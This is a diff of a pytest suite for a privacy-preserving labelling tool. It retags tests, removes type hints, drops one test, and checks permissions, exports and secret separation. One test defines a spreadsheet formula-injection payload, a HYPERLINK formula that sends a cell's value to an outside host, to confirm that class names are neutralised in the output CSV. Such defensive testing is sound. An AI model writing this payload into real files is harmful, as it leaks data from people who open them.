@@ -35,6 +35,8 @@ from quorate.types import Secret
 from quorate.voting import method as voting_facts
 from quorate.voting.flow import run_pipeline
 
+pytestmark = pytest.mark.mostly_heavy
+
 
 def mode(path: Path) -> int:
     return stat.S_IMODE(path.stat().st_mode)
@@ -45,8 +47,7 @@ def finished(finished_run: Any) -> Any:
     return finished_run(**{"data.evaluation": "evaluation.csv"})
 
 
-@pytest.mark.heavy
-def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished: Path) -> None:
+def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished):
     assert {path.name for path in (finished / "public").iterdir()} == PUBLISHED
     guarantee = Guarantee.from_json((finished / "public" / "guarantee.json").read_text())
     assert 3.99 < guarantee.epsilon <= 4.0
@@ -67,8 +68,7 @@ def test_a_run_on_a_users_own_csv_writes_all_its_outputs(finished: Path) -> None
         assert len(ledger.reservations()) == 1
 
 
-@pytest.mark.heavy
-def test_the_private_side_is_readable_by_its_owner_alone(finished: Path) -> None:
+def test_the_private_side_is_readable_by_its_owner_alone(finished):
     assert mode(finished / "private") == 0o700
     kept = [path for path in finished.rglob("*") if path.is_file() and path.parent.name == "private"]
     beside = [finished / name for name in ("ledger.db", "ledger.db.key", "ledger.db.anchor")]
@@ -76,7 +76,8 @@ def test_the_private_side_is_readable_by_its_owner_alone(finished: Path) -> None
     assert {mode(path) for path in [*kept, *beside]} == {0o600}
 
 
-def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_run: Any) -> None:
+@pytest.mark.quick
+def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_run):
     root = make_run()
     (root / "private").mkdir(mode=0o777)
     (root / "private").chmod(0o777)
@@ -84,8 +85,7 @@ def test_an_open_private_folder_is_closed_before_anything_is_written_there(make_
     assert mode(root / "private") == 0o700
 
 
-@pytest.mark.heavy
-def test_nothing_private_lies_on_the_public_side(finished: Path) -> None:
+def test_nothing_private_lies_on_the_public_side(finished):
     written = b"".join(path.read_bytes() for path in sorted((finished / "public").iterdir()))
     keys = [(finished / "private" / "run.key").read_bytes(), (finished / "ledger.db.key").read_bytes()]
     secrets = [form for key in keys for form in (key, key.hex().encode())]
@@ -96,8 +96,7 @@ def test_nothing_private_lies_on_the_public_side(finished: Path) -> None:
     assert [secret for secret in secrets if secret in written] == []
 
 
-@pytest.mark.heavy
-def test_a_finished_run_again_and_another_student_of_it_charge_and_draw_nothing(finished: Path) -> None:
+def test_a_finished_run_again_and_another_student_of_it_charge_and_draw_nothing(finished):
     before, settings = (labels(finished), _entries(finished)), finished / "quorate.toml"
     run(finished)
     assert (labels(finished), _entries(finished)) == before
@@ -111,8 +110,7 @@ def _entries(root: Path) -> list[str]:
         return [entry["kind"] for entry in ledger.export()]
 
 
-@pytest.mark.heavy
-def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run: Any, cli: Any) -> None:
+def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run, cli):
     root = make_run(**{"teachers.model": "my_ward:teacher"})
     (root / "my_ward.py").write_text(
         "from sklearn.compose import make_column_transformer\n"
@@ -133,7 +131,7 @@ def test_a_teacher_of_ones_own_is_found_beside_the_settings(make_run: Any, cli: 
 
 @pytest.mark.default_cases(2)
 @pytest.mark.parametrize("code", ["raise RuntimeError('no licence')", "import no_such_module", "teacher = 3", "pass"])
-def test_a_teacher_that_cannot_be_made_is_one_line(make_run: Any, code: str) -> None:
+def test_a_teacher_that_cannot_be_made_is_one_line(make_run, code):
     root = make_run(**{"teachers.model": "broken_ward:teacher"})
     (root / "broken_ward.py").write_text(f"{code}\n")
     sys.modules.pop("broken_ward", None)
@@ -141,8 +139,7 @@ def test_a_teacher_that_cannot_be_made_is_one_line(make_run: Any, code: str) -> 
         load_run(root)
 
 
-@pytest.mark.heavy
-def test_people_have_all_their_rows_with_one_teacher(make_run: Any) -> None:
+def test_people_have_all_their_rows_with_one_teacher(make_run):
     root = make_run(**{"data.unit": "patient_id", "data.collection": "Visits of one ward."})
     for path in (root / "private.csv", root / "public.csv"):
         pl.read_csv(path).with_columns(country=pl.lit("CH")).write_csv(path)
@@ -159,15 +156,15 @@ def test_people_have_all_their_rows_with_one_teacher(make_run: Any) -> None:
     assert all(tip[1:] in notes for tip in tips)
 
 
-def test_a_column_that_numbers_records_is_no_clash_with_the_word_record() -> None:
+@pytest.mark.quick
+def test_a_column_that_numbers_records_is_no_clash_with_the_word_record():
     assert unit_word("record_id") == "record id"
 
 
 # --- checking -----------------------------------------------------------------------------------------------------
 
 
-@pytest.mark.heavy
-def test_check_says_what_a_run_will_do_and_touches_no_budget(make_run: Any) -> None:
+def test_check_says_what_a_run_will_do_and_touches_no_budget(make_run):
     root = make_run(**{"mechanism.online_answers": 20})
     found = check(load_run(root)).found
     assert not (root / "ledger.db").exists()
@@ -179,7 +176,8 @@ def test_check_says_what_a_run_will_do_and_touches_no_budget(make_run: Any) -> N
     assert found["delta"] == facts.guarantee.delta
 
 
-def test_evaluation_rows_are_looked_at_before_anything_is_charged(make_run: Any) -> None:
+@pytest.mark.quick
+def test_evaluation_rows_are_looked_at_before_anything_is_charged(make_run):
     root = make_run(**{"data.evaluation": "evaluation.csv"})
     table = pl.read_csv(root / "evaluation.csv")
     table.with_columns(pl.lit("maybe").alias("ill")).write_csv(root / "evaluation.csv")
@@ -193,7 +191,7 @@ def test_evaluation_rows_are_looked_at_before_anything_is_charged(make_run: Any)
 
 @pytest.mark.default_cases(1)
 @pytest.mark.parametrize("disguise", ["same file", "copy", "shuffled", "other labels"])
-def test_the_private_table_is_no_evaluation_table(make_run: Any, disguise: str) -> None:
+def test_the_private_table_is_no_evaluation_table(make_run, disguise):
     root = make_run(**{"data.evaluation": "private.csv" if disguise == "same file" else "evaluation.csv"})
     private = pl.read_csv(root / "private.csv")
     if disguise != "same file":
@@ -206,27 +204,15 @@ def test_the_private_table_is_no_evaluation_table(make_run: Any, disguise: str) 
         load_run(root)
 
 
-@pytest.mark.default_cases(1)
-@pytest.mark.parametrize("ours", [30, 390])
-def test_private_rows_among_others_are_no_evaluation_table(make_run: Any, ours: int) -> None:
-    root = make_run(**{"data.evaluation": "evaluation.csv"})
-    shown = pl.read_csv(root / "evaluation.csv")
-    load_run(root)
-    mixed = pl.concat([shown, pl.read_csv(root / "private.csv").head(ours)]).sample(fraction=1.0, shuffle=True, seed=5)
-    mixed.select("ward", "ill", "bmi", "age").write_csv(root / "evaluation.csv")
-    with pytest.raises(DataRefused, match="or some of them"):
-        load_run(root)
-
-
-@pytest.mark.heavy
-def test_the_report_says_whose_word_it_is_that_the_rows_measured_on_are_public(finished: Path) -> None:
+def test_the_report_says_whose_word_it_is_that_the_rows_measured_on_are_public(finished):
     assert "is the owner&#x27;s word" in (finished / "public" / "report.html").read_text().replace("'", "&#x27;")
 
 
 # --- leaving the building -------------------------------------------------------------------------------------------
 
 
-def test_an_export_holds_the_public_side_with_its_sums_and_no_half_of_a_file(finished: Path, tmp_path: Path) -> None:
+@pytest.mark.quick
+def test_an_export_holds_the_public_side_with_its_sums_and_no_half_of_a_file(finished, tmp_path):
     (finished / "public" / ".labels.csv.77.part").write_text("half")  # as a crash leaves it
     written = export_files(finished, tmp_path / "outbox")
     assert {path.name for path in written} == PUBLISHED | {"manifest.json"}
@@ -234,8 +220,9 @@ def test_an_export_holds_the_public_side_with_its_sums_and_no_half_of_a_file(fin
     assert sums == {name: sha256((tmp_path / "outbox" / name).read_bytes()).hexdigest() for name in sorted(PUBLISHED)}
 
 
+@pytest.mark.quick
 @pytest.mark.parametrize("side", ["private", "public"])
-def test_an_export_onto_a_side_of_the_boundary_is_refused(finished: Path, tmp_path: Path, cli: Any, side: str) -> None:
+def test_an_export_onto_a_side_of_the_boundary_is_refused(finished, tmp_path, cli, side):
     (tmp_path / "link").symlink_to(finished / side)
     before = sorted(finished.rglob("*"))
     for place in (finished / side / "x", finished / side / "a" / "b", tmp_path / "link" / "x"):
@@ -246,15 +233,13 @@ def test_an_export_onto_a_side_of_the_boundary_is_refused(finished: Path, tmp_pa
     assert cli("export", finished, "--to", finished / "outbox")[0] == 0  # beside them it stands by itself
 
 
-def test_a_run_that_has_not_finished_is_not_exported(make_run: Any, tmp_path: Path) -> None:
+@pytest.mark.quick
+def test_a_run_that_has_not_finished_is_not_exported(make_run, tmp_path):
     with pytest.raises(PreconditionFailed, match="no finished run yet"):
         export_files(make_run(), tmp_path / "outbox")
 
 
-@pytest.mark.heavy
-def test_a_public_side_of_which_a_file_is_missing_does_not_count_as_finished(
-    make_run: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_public_side_of_which_a_file_is_missing_does_not_count_as_finished(make_run, tmp_path, monkeypatch):
     """Whichever write the process dies at, there is nothing to export until the same command was run again."""
     root = make_run()
     real, written = published.write_atomically, []
@@ -280,8 +265,7 @@ def test_a_public_side_of_which_a_file_is_missing_does_not_count_as_finished(
     assert len(export_files(root, tmp_path / "outbox")) == len(PUBLISHED) + 1
 
 
-@pytest.mark.heavy
-def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run: Any, cli: Any, tmp_path: Path) -> None:
+def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run, cli, tmp_path):
     root = make_run(**{"run.unsafe_noise_seed": 3})
     facts = run(root)
     assert facts.seeded
@@ -302,8 +286,7 @@ def test_a_seeded_run_says_so_on_everything_and_does_not_leave(make_run: Any, cl
     assert not (tmp_path / "outbox").exists()
 
 
-@pytest.mark.heavy
-def test_the_same_seed_gives_the_same_labels_and_another_one_or_none_does_not(make_run: Any) -> None:
+def test_the_same_seed_gives_the_same_labels_and_another_one_or_none_does_not(make_run):
     seeds: tuple[dict[str, Any], ...] = (*({"run.unsafe_noise_seed": seed} for seed in (3, 3, 4)), {}, {})
     roots = [make_run(f"run{at}", **seed) for at, seed in enumerate(seeds)]
     for root in roots:
@@ -314,10 +297,7 @@ def test_the_same_seed_gives_the_same_labels_and_another_one_or_none_does_not(ma
     assert len({(root / "private" / "run.key").read_bytes() for root in roots[3:]}) == 2
 
 
-@pytest.mark.heavy
-def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(
-    make_run: Any, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(make_run, monkeypatch):
     root = make_run()
 
     def unwritable(student: object) -> bytes:
@@ -333,8 +313,7 @@ def test_a_student_that_cannot_be_written_says_that_the_labels_were_charged(
     assert _entries(root) == entries
 
 
-@pytest.mark.heavy
-def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(finished: Path) -> None:
+def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(finished):
     batch, metadata = load_run(finished), RunMetadata(title="run", command="", started="2026-01-01T00:00:00+00:00")
     with batch.open_ledger() as ledger:
         outcome = run_pipeline(batch.task, ledger, key=batch.charge_key)
@@ -345,8 +324,7 @@ def test_a_stale_student_of_an_unseeded_run_does_not_lie_beside_seeded_labels(fi
     assert mode(finished / "private" / "student.skops") == 0o600
 
 
-@pytest.mark.heavy
-def test_the_internal_edition_knows_every_margin_and_stays_secret(finished: Path) -> None:
+def test_the_internal_edition_knows_every_margin_and_stays_secret(finished):
     batch = load_run(finished)
     secret = facts_for_owner(batch)
     assert isinstance(secret, Secret)
@@ -361,8 +339,7 @@ def test_the_internal_edition_knows_every_margin_and_stays_secret(finished: Path
     assert told.stability.n_records == 400 // 12
 
 
-@pytest.mark.heavy
-def test_a_budget_may_last_for_several_runs(make_run: Any) -> None:
+def test_a_budget_may_last_for_several_runs(make_run):
     """Each takes its share, and what both cost together stands in the second's guarantee."""
     root = make_run(**{"run.epsilon": 1.5, "run.delta": 4e-6})
     first = execute(load_run(root), command="first")
@@ -378,8 +355,7 @@ def test_a_budget_may_last_for_several_runs(make_run: Any) -> None:
 HOSTILE = "=HYPERLINK('http://example.org/?'&A1)"
 
 
-@pytest.mark.heavy
-def test_a_class_name_is_no_formula_in_the_file_of_labels(make_run: Any, cli: Any) -> None:
+def test_a_class_name_is_no_formula_in_the_file_of_labels(make_run, cli):
     """Its reader is somebody with a spreadsheet; the file as it is written can be a run's evaluation again."""
     root = make_run(**{"data.classes": ["+no", HOSTILE], "data.evaluation": "evaluation.csv"})
     for name in ("private.csv", "evaluation.csv"):
